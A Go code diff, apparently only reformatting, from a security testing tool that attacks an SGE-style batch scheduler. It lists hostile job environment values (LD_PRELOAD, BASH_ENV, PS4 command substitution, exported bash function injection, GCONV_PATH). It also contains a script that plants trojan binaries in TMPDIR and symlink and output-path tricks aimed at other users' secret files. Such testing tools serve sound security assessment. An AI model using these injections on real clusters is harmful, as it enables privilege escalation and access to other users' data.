@@ -31,11 +31,16 @@ func submitEnvironments(ctx context.Context, f *Field) error {
 		}
 	}
 	for _, v := range []string{
-		"LD_DEBUG=libs,LD_DEBUG_OUTPUT=" + filepath.Join(closed, "by-loader"), "LD_PROFILE=libc.so.6,LD_PROFILE_OUTPUT=" + closed,
-		"BASH_ENV=" + evil, "ENV=" + evil, "PATH=" + bin + ":/usr/bin:/bin", "SHELLOPTS=xtrace,PS4=$(" + mark("by-trace") + ")",
-		"BASHOPTS=expand_aliases,BASH_ENV=" + evil, "IFS=/", "LD_PRELOAD=" + filepath.Join(f.Dir, "none.so"), "LD_LIBRARY_PATH=" + f.Dir,
-		"LD_AUDIT=" + filepath.Join(f.Dir, "none.so"), "PERL5OPT=-Mevil,PERL5LIB=" + f.Dir, "PYTHONSTARTUP=" + evil, "TMPDIR=" + bin, "HOME=" + f.Dir,
-		"SGE_ROOT=" + f.Dir, "SHELL=" + evil, "SGE_STARTER_SHELL_PATH=" + evil, "BASH_FUNC_date%%=() { " + mark("by-function") + "; }", "GCONV_PATH=" + f.Dir,
+		"LD_DEBUG=libs,LD_DEBUG_OUTPUT=" + filepath.Join(closed, "by-loader"),
+		"LD_PROFILE=libc.so.6,LD_PROFILE_OUTPUT=" + closed,
+		"BASH_ENV=" + evil, "ENV=" + evil, "PATH=" + bin + ":/usr/bin:/bin", "SHELLOPTS=xtrace,PS4=$(" +
+			mark("by-trace") + ")",
+		"BASHOPTS=expand_aliases,BASH_ENV=" + evil, "IFS=/", "LD_PRELOAD=" + filepath.Join(f.Dir, "none.so"),
+		"LD_LIBRARY_PATH=" + f.Dir,
+		"LD_AUDIT=" + filepath.Join(f.Dir, "none.so"), "PERL5OPT=-Mevil,PERL5LIB=" + f.Dir, "PYTHONSTARTUP=" + evil,
+		"TMPDIR=" + bin, "HOME=" + f.Dir,
+		"SGE_ROOT=" + f.Dir, "SHELL=" + evil, "SGE_STARTER_SHELL_PATH=" + evil, "BASH_FUNC_date%%=() { " +
+			mark("by-function") + "; }", "GCONV_PATH=" + f.Dir,
 		"LOCPATH=" + f.Dir, "MALLOC_TRACE=" + filepath.Join(closed, "by-malloc"), "HOSTALIASES=" + evil, "NLSPATH=" + f.Dir,
 	} {
 		if ctx.Err() != nil {
@@ -45,7 +50,8 @@ func submitEnvironments(ctx context.Context, f *Field) error {
 		f.count(err)
 	}
 	// A job that leaves programs in its TMPDIR, where an epilog may look first.
-	plant, err := f.file("plant.sh", "#!/bin/sh\nfor p in date hostname id; do cp "+bin+"/$p $TMPDIR/; chmod 755 $TMPDIR/$p; done\n", 0o755)
+	plant, err := f.file("plant.sh", "#!/bin/sh\nfor p in date hostname id; do cp "+bin+
+		"/$p $TMPDIR/; chmod 755 $TMPDIR/$p; done\n", 0o755)
 	if err != nil {
 		return err
 	}
@@ -57,7 +63,8 @@ func submitEnvironments(ctx context.Context, f *Field) error {
 
 // links leads what daemons open elsewhere.
 var links = Attack{
-	Name: "links", Usage: "-o, -e and -i at files of others and links to them; jobs that put links in the place of their directories",
+	Name:  "links",
+	Usage: "-o, -e and -i at files of others and links to them; jobs that put links in the place of their directories",
 	Roles: AsUser, Local: true, Short: true, Run: submitLinks,
 }
 
@@ -86,8 +93,10 @@ exit 0
 			os.Symlink(target, link)
 			out := filepath.Join(f.Dir, fmt.Sprint("out", n))
 			for _, words := range [][]string{
-				{"-o", target, "-j", "y"}, {"-o", link, "-e", link}, {"-e", target, "-o", "/dev/null"}, {"-o", link + "/new", "-j", "y"}, {"-wd", target, "-o", "out", "-j", "y"},
-				{"-i", target, "-o", out, "-j", "y"}, {"-i", link, "-o", out, "-j", "y"}, {"-o", "$HOME/../honest/secret", "-j", "y"},
+				{"-o", target, "-j", "y"}, {"-o", link, "-e", link}, {"-e", target, "-o", "/dev/null"},
+				{"-o", link + "/new", "-j", "y"}, {"-wd", target, "-o", "out", "-j", "y"},
+				{"-i", target, "-o", out, "-j", "y"}, {"-i", link, "-o", out, "-j", "y"},
+				{"-o", "$HOME/../honest/secret", "-j", "y"},
 			} {
 				if ctx.Err() != nil {
 					return nil
